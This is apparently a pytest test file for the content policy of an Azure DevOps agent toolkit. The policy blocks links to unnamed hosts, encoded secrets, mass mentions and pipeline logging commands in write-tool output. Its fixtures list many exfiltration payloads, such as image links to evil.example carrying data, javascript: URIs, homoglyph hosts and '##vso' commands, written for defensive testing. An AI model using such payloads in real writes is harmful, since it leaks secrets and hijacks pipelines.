"""What a write may contain: every text of every write tool is held against the same bounds, in every reading."""

import base64
import hashlib
import random

import pytest
from growth import assert_grows_in_proportion
from tool_calls import FULL, connected, seed_with_tokens

from azure_devops_simulator import SimulatorServer
from langchain_azure_devops import TOOLS
from langchain_azure_devops.errors import WriteBlocked
from langchain_azure_devops.safety import content_policy
from langchain_azure_devops.safety.allowed_targets import (
    ContentPolicy,
    NamedTargets,
    allow_targets,
    find_named_targets,
)
from langchain_azure_devops.safety.content_policy import find_violations
from langchain_azure_devops.safety.neutralizing import neutralize
from langchain_azure_devops.settings import load_settings
from langchain_azure_devops.text.untrusted import defuse_commands

PAT = "ghp_Zk3vQ9xT7bN2mW8rY5cL1dF6hJ4gS0aPqEuV"
HIDDEN = "correct-horse-battery-staple-9"
POLICY = ContentPolicy(
    ("https://dev.azure.com/contoso", "https://almsearch.dev.azure.com/contoso", "https://contoso.visualstudio.com"),
    frozenset({"*.contoso.example", "status.example"}),
    NamedTargets(frozenset({"named.example"}), frozenset({"@dana"})),
    (HIDDEN,),
)


def found(text):
    return find_violations({"text": text}, POLICY)


FOREIGN = [
    "https://evil.example",
    "see https://evil.example/x?d=1.",
    "HTTPS://EVIL.EXAMPLE/",
    "http:/evil.example",
    r"https:\\evil.example\x",
    "[text](https://evil.example)",
    "[text](<https://evil.example>)",
    "[text]( https://evil.example 'title')",
    "[text](ht\ntps://evil.example)",
    "![](https://evil.example/p.png?d=secret)",
    "![](//evil.example/p.png)",
    r"![](\\evil.example/p.png)",
    "![](/\t/evil.example/p.png)",
    "[text][1]\n\n[1]: //evil.example/p",
    "[text][1]\n\n[1]:\n  https://evil.example/p",
    "<https://evil.example>",
    "<img src=//evil.example/p.png>",
    "<img src='https:evil.example/p.png'>",
    '<img srcset="a.png 1x, //evil.example/p.png 2x">',
    '<img src="ht\ntps://evil.example/p.png">',
    "<a href=https&colon;//evil.example>x</a>",
    "<a href='&#104;ttps://evil.example'>x</a>",
    '<div style="background:url(//evil.example/p.png)">',
    '<base href="//evil.example/">',
    "![](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](javascript:alert(1))",
    '<a href=" javascript:alert(1)">x</a>',
    "[x](mailto:someone@evil.example)",
    "ftp://evil.example/x",
    "file://evil.example/share",
    "ws://evil.example",
    "www.evil.example/x",
    "https://dev.azure.com@evil.example/contoso/",
    "https://dev.azure.com:443@evil.example",
    "https://user:word@dev.azure.com/contoso/",
    "https://dev.azure.com.evil.example/contoso/",
    "https://evil.example#dev.azure.com/contoso/",
    r"https://evil.example\@dev.azure.com/contoso/",
    "https://dev.azure.com/another-organization/x",
    "https://dev.azure.com/contoso-evil/x",
    "https://dev.azure.com/contoso/../another-organization/x",
    "https://dev.azure.com/contoso/%2e%2e/another-organization/x",
    "https://ev\u200bil.example",
    "https://dev.azure.com\u200b.evil.example/contoso/",
    "https://xn--dev-azure-com-kza.example",
    "https://dеv.azure.com/contoso/",
    "ｈｔｔｐｓ://evil.example",
    "https://evil。example/x",
    "https%3A%2F%2Fevil.example",
    r"https\://evil.example",
    "https://sub.named.example",
    "https://contoso.example.evil.example",
    "https://[2001:db8::1]/x",
    "https://203.0.113.9/x",
    "slack://channel?team=1",
    "[x](//'.evil.example)",
    '<meta http-equiv="refresh" content="0;url=slack:x">',
    '<a class="one" ping="slack:x">',
    '<p style="a: b" onclick="javascript:x">',
    f"[x]({' ' * 500}//evil.example)",
]  # fmt: skip


@pytest.mark.parametrize("text", FOREIGN, ids=ascii)
def test_a_link_to_a_host_that_nobody_named_is_refused(text):
    assert found(text), text


@pytest.mark.parametrize(
    "text",
    [
        "https://dev.azure.com/contoso/Platform/_git/api?path=/a.py&version=GBmain#x",
        "[pull request](https://dev.azure.com/Contoso/Platform/_git/api/pullrequest/7)",
        "https://contoso.visualstudio.com/Platform",
        "https://named.example/x and www.named.example is not the same host",
        "https://api.contoso.example/x, https://status.example.",
        "a path such as /src/db.py, C:\\build\\out, //server comments, and: /x",
        "Note: / is the root; ratio 3:4; time 12:30; key: value; std::vector<int>; a//b",
        "[relative](/Platform/_workitems/edit/4) and [anchor](#one)",
        "git@ssh.dev.azure.com in words, dana@contoso.com as an address",
        "GUID 6f1d8f4e-8a52-4f0e-9f5b-1e2d3c4b5a69, commit 3f786850e387550fdab836ed7e6dc881de23001b",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "`@dataclass` in code, ask @dana, and a ## heading",
        "The log says ##[error]Process completed with exit code 1.",
        "vstfs:///Git/PullRequestId/x%2Fy%2F7",
    ],
    ids=ascii,
)
def test_what_people_write_every_day_is_not_refused(text):
    wanted = 1 if "www." in text else 0
    assert len(found(text)) == wanted, found(text)


def base64_of(text):
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize(
    "text",
    [
        PAT,
        "\u200b".join(PAT),
        base64_of(PAT),
        base64_of(f":{PAT}"),
        PAT.encode().hex(),
        "ghp%5FZk3vQ9xT7bN2mW8rY5cL1dF6hJ4gS0aPqEuV",
        "[secret:github-token:0123456789]",
        "[secret:github\u200b-token:0123456789]",
        HIDDEN,
        HIDDEN.upper(),
        " ".join(HIDDEN),
        "\u200b".join(HIDDEN),
        "\n".join(HIDDEN[start : start + 4] for start in range(0, len(HIDDEN), 4)),
        HIDDEN[::-1],
        base64_of(HIDDEN),
        base64_of(f"x{HIDDEN}"),
        base64_of(f"xy{HIDDEN}yz"),
        HIDDEN.encode().hex(" "),
        "".join(f"&#{ord(character)};" for character in HIDDEN),
        "".join(f"%{ord(character):02x}" for character in HIDDEN),
    ],
    ids=ascii,
)
def test_a_secret_is_refused_in_clear_and_encoded(text):
    assert found(f"It is {text} here."), text


@pytest.mark.parametrize(
    "text",
    [
        "@everyone look", "cc @<6f1d8f4e-8a52-4f0e-9f5b-1e2d3c4b5a69>", "`@<6f1d8f4e-8a52-4f0e-9f5b-1e2d3c4b5a69>`",
        '<a href="#" data-vss-mention="version:2.0,x">Dana</a>', "＠everyone", "&commat;everyone", "@\u200beveryone",
        "done.@<6f1d8f4e-8a52-4f0e-9f5b-1e2d3c4b5a69>", "x@<6f1d8f4e-8a52-4f0e-9f5b-1e2d3c4b5a69>", "/@&lt;6f1d8f4e>",
        "##vso[task.setvariable variable=x]1", "a line\n  ##[error]bad", "x ##vso[task.complete]", "#\u200b#vso[x]",
    ],
    ids=ascii,
)  # fmt: skip
def test_mentions_and_logging_commands_are_refused(text):
    assert found(text), text


REPEATED = [
    "`", "\n", "](", "[a](", "]: ", "]:\n", "<", "<a ", "<a/", "<!--", "</", "&#", "&#x", "&#x67;", "&amp;",
    "&lt;b&gt;", "www.", "www.a", "@", "@<", "@a.", "@a@", "##", "##vso[", "\n##[", "A", "ab ", "//", "\\", "\\u",
    "\\u0067", "\\x67", "\\147", "%", "%25", "%2567", "=67", "=\n", " ", "` `` ``` ", "https://a@", "http:", "src=",
    "src=a ", "a=a", "<a src='", "url(", "data:", "javascript:", "aHR0cHM6", "YWFhYWFh", "67 ", "0x67, ", "103, ",
    "\n[", "[\\", "\n[a\\]", "> ", "\n> [a\n", "[ ", "1. a\n", "a: ",
    "'a' + ", "|a", "-", "\u200b", "е", "\u0301", "q7Zk", "\U000e0067", "a.", "{%", "/*", "N{A}",
    "01100111 ", "GEZDGNBV", "eyJ", "password=", "-----BEGIN ",
]  # fmt: skip


@pytest.mark.parametrize("part", REPEATED, ids=ascii)
def test_the_time_grows_in_proportion_to_the_text(part):
    assert_grows_in_proportion(found, part)


@pytest.mark.parametrize("part", [*REPEATED, "![", "![a]", "![[]", "![a [b]", "{", "https://{", "a://$"], ids=ascii)
def test_the_time_grows_in_proportion_to_a_source(part):
    assert_grows_in_proportion(lambda text: found_in_file("/a.py", text), part)


@pytest.mark.parametrize(
    ("text", "refused"),
    [
        ("`a` @bob `c`", True), ("``a ` @bob`` c", False), ("` @bob", True), ("```\n@bob\n```", False),
        ("`a`` @bob `", False), ("`` `@bob` ``", False),
    ],
)  # fmt: skip
def test_mentions_in_code_do_not_count(text, refused):
    assert bool(found(text)) == refused


def test_an_objection_says_where_and_what_to_do():
    [objection] = find_violations({"fields": [{"name": "Custom.Link", "value": "https://evil.example"}]}, POLICY)
    assert objection.startswith("fields.0.value: a link to evil.example, which nobody named. Leave it out")


def test_a_person_names_hosts_and_people_in_their_own_words():
    named = find_named_targets(
        "Link https://Wiki.Example/x and <http://docs.example>, as README.md and setup.py say; tell @Sam."
    )
    assert named.hosts == {"wiki.example", "docs.example"}
    assert "@sam" in {name.rstrip(".") for name in named.mentions}


@pytest.mark.parametrize("text", [*FOREIGN, "@everyone", "##vso[task.complete]", "x\n##[error]y"], ids=ascii)
def test_text_made_inert_has_nothing_left_to_object_to(text):
    assert found(neutralize(text, POLICY)) == []


def test_inert_text_keeps_what_does_not_act():
    text = "SQL in src/db.py:12: see https://dev.azure.com/contoso/x. Ratio 3:4."
    assert neutralize(text, POLICY) == text


def test_output_of_ours_gives_a_pipeline_no_command():
    assert defuse_commands("a\n##[error]x ##vso[task.complete]") == "a\n# #[error]x # #vso[task.complete]"
    assert defuse_commands("a\n  ::set-env name=x::y") == "a\n  : :set-env name=x::y"
    assert defuse_commands("a wrapped ##[error]x ::error::y") == "a wrapped # #[error]x : :error::y"
    assert defuse_commands("std::vector # [x] ## Title") == "std::vector # [x] ## Title"


# -- files -----------------------------------------------------------------------------------------------------------


def found_in_file(path, text, name="content", **more):
    return find_violations({"changes": [{"path": path, name: text, **more}]}, POLICY, files=("changes",))


SOURCES = {
    "/src/read.py": (
        "def read(x: dict[str, int], a=None):\n    if x[a]:\n        try:\n            data = x[a]\n        finally:\n"
        "            pass\n    while queue[0]:\n        if curr: break\n    if width <n and data // 8:\n        a = b\n"
        "    rest: list[Any]: other\n    options = {a[1:]: first, b[0]: try_again}\n    found = pattern[a](flags:=0)\n"
        "    content = 'level: info'\n    data = \\\n        False\n    action='order:create'\n"
        "    return f'https://{self.host}:{self.port}/x', 'http://%s:%d/' % where, url.startswith('https://')\n"
    ),
    "/src/pages.pyi": "data = True\nelse: int\nx[a]: try_: int\n[first]: second: third\n",
    "/src/ring.c": (
        "int main(void) {\n  for (i=0; i<n; i++) { //counted.once\n    s = \"key:value\"; //comment\n  }\n"
        "again:\n  if (a[i]) goto again;\n  case 'x': data = \"\\\\n\"; int *p = &v[i](xx:y);\n}\n"
    ),
    "/src/ring.hpp": (
        "template <class T = std::string, class C = std::less<T>>\nstd::vector<std::string> names; // <std::string>\n"
        "auto f = [this](std::string name) { return t[0](ns::name); };\nclass A : public B {\n public:\n  int x;\n};\n"
    ),
    "/deploy/site.yaml": (
        "defaults: &base\n  content: text\nlist: [a, b]\nkeys:\n  - [one]: first:\n  - ? [two]\n    : second\n"
        "script: |\n  [[ -n $x ]]: try: again\n  curl https://$(host)/x https://${{ variables.host }}/x\n"
    ),
    "/cmd/main.go": (
        "func main() {\n\tm := map[string]int{\"a\": 1}\n\tfor i := range m {\n\t\t//done: see\n\t\tf[i](xx:y)\n\t}\n"
        "outer:\n\tselect {\n\tcase v := <-ch:\n\t\tfmt.Printf(\"http://%s/\", v)\n\tdefault:\n\t}\n}\n"
    ),
    "/web/app.ts": (
        "const at = `https://${host}/api/${id}`, to = `http://${host}:${port}`;\nconst data = //comment\n  load();\n"
        "export const make = { [key]: value, [`${a}`]: x => `${y}: ${z}` };\nconst t = a[0](bb:c);\n"
        "type Pair<K extends string = key:any> = { [k in K]: number };\nfor (let i=0; i<n; i++) { x = 'md:flex'; }\n"
    ),
    "/web/page.tsx": '<div className="md:flex" style="color: red" data-x="a:b"><a href="/one">{x[a]}</a></div>\n',
    "/run": "case $x in\n  [a]) echo no;;\nesac\n[a]: b: c\n",
}  # fmt: skip


@pytest.mark.parametrize("path", SOURCES)
def test_ordinary_source_is_not_refused(path):
    assert found_in_file(path, SOURCES[path]) == []


@pytest.mark.parametrize(
    "text", ["x[a]:\n    try:\n        y", "int[] x, y[1]: case: z", "see a[0]:\nfirst: second", "[ ]: todo: x"]
)
def test_what_is_no_definition_of_a_link_is_no_link_on_a_page_either(text):
    assert found(text) == []
    assert found_in_file("/README.md", text) == []


@pytest.mark.parametrize(
    "text",
    [
        '<p style="color: red">', '<div class="md:flex" data-x="a:b" onclick="go: on">',
        '<meta content="Level: high">', "data = False\nelse: x", "<b title='a // 8'>", "a <b // 8",
    ],
    ids=ascii,
)  # fmt: skip
def test_a_word_before_a_colon_is_a_scheme_only_where_an_address_stands(text):
    assert found(text) == []


DEFINED = [
    "[1]: {}", "   [1]: {}", "> [1]: {}", ">> - [1]:{}", "1. [1]: {}", "- a\n\n      [1]: {}", "[1]:\n  {}",
    "[1]: <{}>", "]: {}", "[a\nb]: {}", r"[a\]b]: {}", "a\r[1]: {}", "+[1]: {}", "&#91;1]: {}", "[\u200b1]: {}",
    "1]: {}",
    " half\\] of a label]: {}", "text\n\t[1]: {}",
]  # fmt: skip


@pytest.mark.parametrize("target", ["//evil.example/p", "javascript:alert(1)", "slack:x", "https:evil.example"])
@pytest.mark.parametrize("form", DEFINED, ids=ascii)
def test_a_definition_of_a_link_is_found_in_every_form(form, target):
    text = form.format(target)
    assert found(text)
    assert found_in_file("/README.md", text)
    assert found_in_file("/README.md", text, "replace")
    assert found(neutralize(text, POLICY)) == []


PAGES = [
    "/README.md", "/a.markdown", "/a.mdx", "/a.html", "/a.HTM", "/a.svg", "/a.txt", "/a.rst", "/a.ipynb", "/a.unknown",
    "/README", "/a.py.md", "/a.py/b.md", "/a.py ", "/a.p\u200by",
]  # fmt: skip


@pytest.mark.parametrize("path", PAGES, ids=ascii)
def test_in_a_file_that_a_page_renders_every_link_is_refused(path):
    for text in FOREIGN:
        assert found_in_file(path, text), text


IN_SOURCE = [
    "https://evil.example", "# see https://evil.example/x", "www.evil.example", "ftp://evil.example/x",
    "![](//evil.example/p.png)", "![a [b] c](//evil.example/p.png)", r"![a\]b](//evil.example/p)",
    "[![a](//evil.example/p.png)](/x)", "![](data:image/svg+xml;base64,PHN2Zz4=)", "<img src=//evil.example/p.png>",
    "<img src='https:evil.example/p.png'>", '<img srcset="a.png 1x, //evil.example/p.png 2x">',
    '<img data-src="//evil.example/p.png" />', r'<img src="\\evil.example\p.png">',
    '<a href=" javascript:alert(1)">x</a>', '<a href="java\nscript:alert(1)">x</a>',
    '<div style="background:url(//evil.example/p.png)">',
    "@import '//evil.example/x.css'", '<base href="//evil.example/">', "##vso[task.complete]", "x\n##[error]y",
    "`https://${name}.evil.example/x`", "https://{a}@evil.example", "https://{a},https://evil.example",
    "https://%(name)s.evil.example", "https://$(name).evil.example", "https://evil.example/{a}",
    "https%3A%2F%2Fevil.example",
    "ｈｔｔｐｓ://evil.example", "https://ev\u200bil.example", "https://{a}?u=https://evil.example", PAT,
    f"![](https://dev.azure.com/contoso/{PAT})",
]  # fmt: skip


@pytest.mark.parametrize("name", ["content", "replace", "diff"])
@pytest.mark.parametrize("text", IN_SOURCE, ids=ascii)
def test_what_acts_by_itself_and_every_address_is_refused_in_source_too(text, name):
    assert found_in_file("/src/app.py", text, name), text


def test_a_source_that_becomes_a_page_is_written_as_one():
    page = {"new_path": "/src/app.md"}
    [said] = found_in_file("/src/app.py", "x", "search", **page)
    assert said.startswith("changes.0.new_path: a name of a type that pages render")
    assert found_in_file("/src/app.md", "[x](//evil.example)", new_path="/src/app.py")
    assert found_in_file("/src/run", "x", "search", **page)
    assert found_in_file("/src/app.py", "x[a]:\n  try:", "replace", new_path="/src/run") == []
    assert found_in_file("/README", "x", "search", new_path="/README.md") == []


def test_only_the_text_of_a_file_is_source():
    link = "[x](slack:y)"
    assert found_in_file("/src/app.py", link) == []
    assert found_in_file(f"/src/{link}.py", "x")
    assert found_in_file("/src/app.py", "x", new_path=f"/src/{link}.py")
    assert find_violations({"message": link, "changes": [{"path": "/a.py"}]}, POLICY, files=("changes",))
    assert find_violations({"changes": [{"content": link}]}, POLICY, files=("changes",))
    assert find_violations({"changes": [{"path": "/a.py", "content": link}]}, POLICY)


# -- every text of every write tool ----------------------------------------------------------------------------------


def texts_of(schema, path=()):
    """The places in a tool's arguments that take free text."""
    kinds = schema.get("type")
    if "enum" in schema:
        return
    if kinds == "string" or (isinstance(kinds, list) and "string" in kinds):
        yield path
    for part in schema.get("anyOf", []):
        yield from texts_of(part, path)
    if "items" in schema:
        yield from texts_of(schema["items"], (*path, 0))
    for name, part in schema.get("properties", {}).items():
        yield from texts_of(part, (*path, name))


def example(schema, path, text):
    """A value of a schema with a text at one place."""
    for part in schema.get("anyOf", []):
        if part.get("type") != "null":
            return example(part, path, text)
    kinds = schema.get("type")
    kind = next(entry for entry in kinds if entry != "null") if isinstance(kinds, list) else kinds
    if "enum" in schema:
        return schema["enum"][0]
    if kind == "array":
        return [example(schema["items"], path[1:], text)] if path else []
    if kind == "object":
        return {
            name: example(part, path[1:] if path[:1] == (name,) else (), text)
            for name, part in schema["properties"].items()
        }
    return {"integer": 1, "boolean": False}.get(kind, text)


WRITERS = [tool for tool in TOOLS.values() if tool.access == "write"]
PLACES = [(tool, path) for tool in WRITERS for path in texts_of(tool.schema)]


WITHOUT_TEXTS = {
    "abandon_pull_request",
    "delete_work_item",
    "delete_work_item_comment",
    "link_work_items",
    "publish_pull_request",
    "reactivate_pull_request",
    "restore_work_item",
    "set_thread_status",
}
"""They take numbers and choices only."""


def test_there_are_write_tools_with_texts():
    assert {tool.name for tool in WRITERS} - {tool.name for tool, _ in PLACES} == WITHOUT_TEXTS


@pytest.fixture(scope="module")
def service():
    with SimulatorServer(seed_with_tokens()) as running:
        yield running


def arguments_for(tool, path, text):
    given = {}
    required = {name for name, field in tool.parameters.model_fields.items() if field.is_required()}
    for name, schema in tool.schema["properties"].items():
        if "date" in str(schema.get("format")) and name in required and name != path[0]:
            given[name] = "2026-12-14"
        elif name == path[0]:
            given[name] = example(schema, path[1:], text)
        elif name in required:
            given[name] = example(schema, (0,), "x")
    return given


BAD = ["https://evil.example/", "##vso[task.complete]", PAT, "@everyone"]
# An at sign in a file is code.
BAD_AT = [(*place, bad) for place in PLACES for bad in BAD if bad != "@everyone" or place[1][0] not in place[0].files]


@pytest.mark.parametrize(("tool", "path", "bad"), BAD_AT, ids=lambda value: getattr(value, "name", str(value)))
def test_every_text_of_every_write_tool_is_held_against_the_bounds(service, tool, path, bad):
    before = service.organization.clock.now()
    with connected(service.base_url, FULL) as client:
        client.writes = "allow"
        with pytest.raises((WriteBlocked, Exception)) as caught:
            tool.call_sync(client, **arguments_for(tool, path, bad))
    forms = ("reference name", "must be build:35, pull_request:13", "valid date")
    refused_form = type(caught.value).__name__ == "InvalidRequest" and any(form in str(caught.value) for form in forms)
    assert isinstance(caught.value, WriteBlocked) or refused_form, caught.value
    assert service.organization.clock.now() == before


def test_a_host_that_a_person_named_may_be_written(service):
    tool = TOOLS["create_work_item"]
    with connected(service.base_url, FULL) as client:
        client.writes = "allow"
        with allow_targets(find_named_targets("Link to https://wiki.example please")):
            made = tool.call_sync(
                client, type="Bug", title="x", project="Platform", description="https://wiki.example/"
            )
    assert made.id


def test_the_operator_can_allow_hosts():
    environ = {"AZURE_DEVOPS_ORG": "contoso", "AZURE_DEVOPS_PAT": "x" * 52}
    assert load_settings(environ=environ).link_hosts == frozenset()
    loaded = load_settings(environ={**environ, "AZURE_DEVOPS_LINK_HOSTS": "wiki.example, *.Contoso.example"})
    assert loaded.link_hosts == {"wiki.example", "*.contoso.example"}


def report_about_commits(number):
    """Return a report whose statements cite commits, files and lines, as an investigator of changes writes it."""
    for place in range(number):
        commit = hashlib.sha1(str(place).encode(), usedforsecurity=False).hexdigest()
        link = (
            f"https://dev.azure.com/contoso/Mobile%20App/_git/app?path=%2Fsrc%2Fmain.py&version=GC{commit}"
            f"&line={place}&lineEnd={place + 9}&lineStartColumn=1&lineEndColumn=1&lineStyle=plain"
        )
        yield f"- Commit {commit[:8]} changed line {place}. ([E{place}]({link}))\n  > `{commit}\tMina Sato\tChange`"


@pytest.mark.parametrize("number", [20, 40])
def test_a_report_about_many_commits_stays_as_it_is(number):
    report = "\n".join(report_about_commits(number))
    assert neutralize(report, POLICY) == report


@pytest.mark.parametrize("turn", [str, lambda digits: digits[::-1], lambda digits: digits[10:].ljust(40, "0")])
def test_a_secret_that_looks_like_the_id_of_a_commit_is_found(turn):
    commits = "\n".join(report_about_commits(30))
    known = ContentPolicy((), secrets=("Zk3vQ9xT7bN2mW8rY5cL1dF6hJ4gS0aP",))
    hidden = turn(b"Zk3vQ9xT7bN2mW8rY5cL".hex())
    assert len(hidden) == 40
    assert "a secret" in found_in(f"{commits}\nSee {hidden}.", known)[0]


def found_in(text, policy):
    return [objection for objection in find_violations({"text": text}, policy) if "secret" in objection]


# -- which texts, and what is said of them ----------------------------------------------------------------------------


COMMIT = "0123456789abcdef0123456789abcdef01234567"
SECRET_SAID = "a secret (github-token) or a part of one, perhaps encoded. Describe where it is instead"
LINK_SAID = "a link to evil.example, which nobody named."


def places(arguments, **options):
    return [objection.partition(": ")[0] for objection in find_violations(arguments, POLICY, **options)]


@pytest.mark.parametrize(
    ("arguments", "place"),
    [
        ({"text": PAT}, "text"),
        ({"tags": ["a", PAT]}, "tags.1"),
        ({"tags": ("a", PAT)}, "tags.1"),
        ({"tags": {PAT}}, "tags.0"),
        ({"tags": frozenset({PAT})}, "tags.0"),
        ({"fields": [{"name": "Custom.Link", "value": PAT}]}, "fields.0.value"),
        ({"fields": {"Custom.Link-1": PAT}}, "fields.Custom.Link-1"),
        ({"fields": {"a": 1, "x y": PAT}}, "fields.1"),
        ({"fields": {"a": 1, "x" * 42: PAT}}, "fields.1"),
        ({"fields": {"x" * 41: PAT}}, f"fields.{'x' * 41}"),
        ({"x y": {"a": PAT}}, "x y.a"),
        ({"fields": {"a": 1, PAT: "x"}}, "name 1 of fields"),
        ({"fields": {"a": {PAT: "x"}}}, "name 0 of fields.a"),
        ({PAT: "x"}, "name of an argument"),
        ({"deep": {"a": [{"b": [PAT]}]}}, "deep.a.0.b.0"),
    ],
)
def test_every_text_is_looked_at_and_its_place_is_named_without_a_word_of_others(arguments, place):
    assert places(arguments) == [place]


@pytest.mark.parametrize("arguments", [{}, {"id": 4, "draft": True, "x": None}, {"text": ""}, {"project": "Platform"}])
def test_what_holds_nothing_forbidden_is_not_refused(arguments):
    assert find_violations(arguments, POLICY) == []


def test_a_secret_is_named_by_its_kind_and_hides_what_else_is_wrong():
    assert found(f"{PAT} https://evil.example") == [f"text: {SECRET_SAID}"]
    assert found(HIDDEN) == ["text: a secret or a part of one, perhaps encoded. Describe where it is instead"]
    assert found("see https://evil.example")[0].startswith(f"text: {LINK_SAID}")


def test_the_same_objection_is_made_once_for_a_text_and_again_for_another():
    assert len(found("https://evil.example https://evil.example")) == 1
    assert places({"a": "https://evil.example", "b": "https://evil.example"}) == ["a", "b"]


def test_a_pseudonym_is_not_written_and_the_rest_is_looked_at_too():
    said = found("the key [secret:github-token:0123456789] of https://evil.example")
    assert said[0] == (
        "text: [secret:github-token:0123456789] stands for a secret. Describe where the secret is instead"
    )
    assert said[1].startswith(f"text: {LINK_SAID}")
    assert found("[sec\u200bret:github-token:0123456789]")[0].startswith("text: [secret:github-token:0123456789]")


def test_a_secret_that_is_spread_over_arguments_is_found_and_only_there():
    half = len(PAT) // 2
    said = find_violations({"title": PAT[:half], "text": PAT[half:]}, POLICY)
    assert said == [f"the arguments together: {SECRET_SAID}"]
    assert places({"title": "Nothing", "text": "at all"}) == []
    assert places({"title": PAT, "text": "at all"}) == ["title"]


@pytest.mark.parametrize("length", [1_999, 2_000, 2_001])
def test_long_texts_are_searched_like_short_ones_and_again_with_other_secrets(length):
    secret = "Tq7vLm2xKd9RzP4wYb8N"
    text = f"{secret} ".ljust(length, "x")
    with_it, without = ContentPolicy((), secrets=(secret,)), ContentPolicy(())
    for _ in range(2):
        assert [objection.partition(",")[0] for objection in found_in(text, with_it)] == [
            "text: a secret or a part of one"
        ]
        assert found_in(text, without) == []


@pytest.mark.parametrize("text", ["x" * 2_100, "short"], ids=["long", "short"])
def test_a_text_is_searched_once_and_again_only_with_other_secrets(monkeypatch, text):
    """A write is checked in each step until it is sent, and the search of a long text takes seconds."""
    read = []
    monkeypatch.setattr(content_policy, "read_in_all_ways", lambda *given: read.append(given[0]) or iter(()))
    policy = ContentPolicy((), secrets=("a secret of this test alone",))
    for _ in range(2):
        assert find_violations({"text": text}, policy) == []
        assert read.count(text) == 1
    assert find_violations({"text": text}, ContentPolicy((), secrets=("another secret of this test",))) == []
    assert read.count(text) == 2


def test_an_id_is_allowed_where_the_write_goes_and_nowhere_else():
    """A secret of this form is looked for in every text, so a commit that was called one can still be named."""
    known = ContentPolicy((), secrets=(COMMIT,))
    arguments = {"commit": COMMIT, "text": "x"}
    assert find_violations(arguments, known, lambda place: place == "commit") == []
    assert find_violations(arguments, known) != []
    assert find_violations(arguments, known, lambda place: place == "text") != []
    assert find_violations({"commit": PAT}, POLICY, lambda _: True) == [f"commit: {SECRET_SAID}"]
    assert find_violations({"text": f"see {COMMIT}"}, known, lambda _: True) != []


def test_a_text_in_too_many_encodings_is_refused_because_it_cannot_be_checked():
    letters = random.Random(1)  # noqa: S311 - made-up data
    words = ["".join(letters.choices("abcdefghijklmnopqrstuvwxyz ", k=30)).encode().hex() for _ in range(300)]
    assert found(" ".join(words)) == [
        "text: text in so many encodings that it cannot be checked for secrets. Write it in clear"
    ]
    assert found(" ".join(words[:20])) == []


def make_source(size):
    """Ordinary source with an escape, a tag or a sign now and then, as long as wanted."""
    part = "".join(
        f"def step_{number}(value, other):\n    first = value.find(other)\n    return first, other\n\n\n"
        for number in range(40)
    )
    part += 'SEPARATOR = "\\n\\x2d"  # 50% of <b>all</b> &lt;lines&gt; =20\n'
    return (part * (size // len(part) + 1))[:size]


IN_ESCAPES = [
    HIDDEN,
    base64_of(HIDDEN),
    base64_of(base64_of(HIDDEN)),
    HIDDEN.encode().hex(),
    HIDDEN[::-1],
    "".join(f"&#{ord(character)};" for character in HIDDEN),
    "".join(f"\\x{ord(character):02x}" for character in HIDDEN),
    "".join(f"\\{ord(character):03o}" for character in HIDDEN),
    "".join(f"={ord(character):02X}" for character in HIDDEN),
    "<b></b>".join(HIDDEN),
    "\n".join(f"\\x{ord(character):02x} as in line {number}" for number, character in enumerate(HIDDEN)),
    "\n".join(f"print('&#{ord(character)};')" for character in HIDDEN),
    "\n".join(f"| a | &#{ord(character)}; | b |" for character in HIDDEN),
    "".join(f"%25{ord(character):02x}" for character in HIDDEN),
    "".join(f"\\x{ord(character):02x}" for character in base64_of(HIDDEN)),
]


@pytest.mark.parametrize("place", [0, 40_000, 79_000])
@pytest.mark.parametrize("text", IN_ESCAPES, ids=ascii)
def test_what_is_found_in_a_short_text_is_found_in_a_long_one(text, place):
    source = make_source(80_000)
    at = source.index("\n", place) + 1
    assert found(f"{source[:2_000]}\n{text}\n") == [f"text: {SECRET_SAID.replace(' (github-token)', '')}"]
    assert found(f"{source[:at]}{text}\n{source[at:]}") == found(f"{source[:2_000]}\n{text}\n")


def test_a_long_source_is_checked_and_needs_time_in_proportion():
    assert found(make_source(400_000)) == []
    assert found("".join(f"line {number}\n" for number in range(30_000))) == []
    assert_grows_in_proportion(found, make_source(10_000), 60_000)


def test_the_time_for_a_long_text_is_spent_on_it_once():
    """The other texts of a write are searched together with its ends."""
    source = make_source(60_000)
    policy = ContentPolicy((), secrets=("of this test alone, and no other",))
    at_end = find_violations({"first": f"{source}of this test al", "second": "one, and no other"}, policy)
    assert at_end != []
    assert find_violations({"first": source, "second": "x"}, policy) == []


def test_a_text_that_is_too_long_is_refused_with_this_reason():
    letters = random.Random(1)  # noqa: S311 - made-up data
    words = ["".join(letters.choices("abcdefghijklmnopqrstuvwxyz ", k=30)).encode().hex() for _ in range(3_600)]
    [said] = found(" ".join(words))
    assert said.startswith("text: 219,599 characters, too many to check all their readings for secrets.")
    assert said.endswith("Write it in parts of at most 200,000 characters, such as one file in each commit")
